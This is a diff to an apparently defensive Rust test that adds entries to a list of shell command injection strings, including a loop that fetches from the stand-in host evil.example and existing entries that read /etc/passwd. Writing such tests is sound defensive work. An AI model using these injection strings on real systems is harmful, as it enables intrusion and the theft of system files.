@@ -11,6 +11,8 @@ fn commands_are_found_where_a_unix_shell_looks_for_them() {
     let attacks = [
         ";id",
         "; id",
+        ";for i in 1;do curl evil.example/x;done",
+        ";if id;then id;fi",
         "|id",
         "a;cat /etc/passwd",
         "127.0.0.1; cat /etc/passwd",
